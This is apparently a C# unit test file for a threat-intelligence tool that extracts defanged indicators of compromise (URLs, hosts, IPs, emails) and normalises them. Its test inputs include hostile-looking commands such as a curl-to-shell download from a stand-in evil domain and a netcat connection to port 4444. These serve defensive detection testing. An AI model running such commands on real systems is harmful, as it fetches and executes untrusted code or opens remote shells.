using System.Linq;
using B64Hunt.Iocs;
using Xunit;
using static B64Hunt.Tests.Iocs.IocTestSupport;

namespace B64Hunt.Tests.Iocs
{
    public class DefangedIndicatorTests
    {
        [Theory]
        [InlineData("hxxp://evil[.]com/a.sh", "http://evil.com/a.sh")]
        [InlineData("hXXps://evil(.)com/a", "https://evil.com/a")]
        [InlineData("hxxp[:]//evil{.}com/a", "http://evil.com/a")]
        [InlineData("hxxps[://]evil[dot]com/a", "https://evil.com/a")]
        [InlineData("http://93.184.216[.]34:8080/x", "http://93.184.216.34:8080/x")]
        public void DefangedUrlsKeepWhatWasWrittenAndNormaliseToUsable(string written, string usable)
        {
            var ioc = Single("curl " + written + " | sh", IocTypeNames.Url, usable);
            Assert.Equal(written, ioc.Value);
        }

        [Fact]
        public void DefangedHostsOfUrlsKeepTheirWrittenForm()
        {
            var dns = Single("hxxp://evil[.]com/a.sh", IocTypeNames.Dns, "evil.com");
            Assert.Equal("evil[.]com", dns.Value);
        }

        [Theory]
        [InlineData("echo evil[.]com", IocTypeNames.Dns, "evil[.]com", "evil.com")]
        [InlineData("echo sub(.)evil(.)org", IocTypeNames.Dns, "sub(.)evil(.)org", "sub.evil.org")]
        [InlineData("nc 93[.]184[.]216[.]34 4444", IocTypeNames.Ipv4, "93[.]184[.]216[.]34", "93.184.216.34")]
        [InlineData("echo 93.184.216[dot]34", IocTypeNames.Ipv4, "93.184.216[dot]34", "93.184.216.34")]
        [InlineData("echo ops[at]evil[.]com", IocTypeNames.Email, "ops[at]evil[.]com", "ops@evil.com")]
        [InlineData("echo ops[@]evil.com", IocTypeNames.Email, "ops[@]evil.com", "ops@evil.com")]
        public void DefangedNamesAddressesAndEmailsAreRecognised(string text, string type, string written, string usable)
        {
            var ioc = Single(text, type, usable);
            Assert.Equal(written, ioc.Value);
        }

        [Fact]
        public void DefangedAndPlainFormsOfOneIndicatorAreOneEntry()
        {
            var found = Extract("echo evil[.]com evil.com EVIL(.)COM");
            Assert.Equal(new[] { "dns:evil.com" }, found.Select(i => i.ToString()).ToArray());
            Assert.Equal("evil[.]com", found[0].Value);
        }

        [Theory]
        [InlineData("echo a [.] b")]
        [InlineData("grep '[.]' f")]
        [InlineData("python -c 'print(x[.])'")]
        public void BracketsThatAreNotDefangingChangeNothing(string text)
        {
            Assert.Empty(Of(text, IocTypeNames.Dns));
        }
    }
}
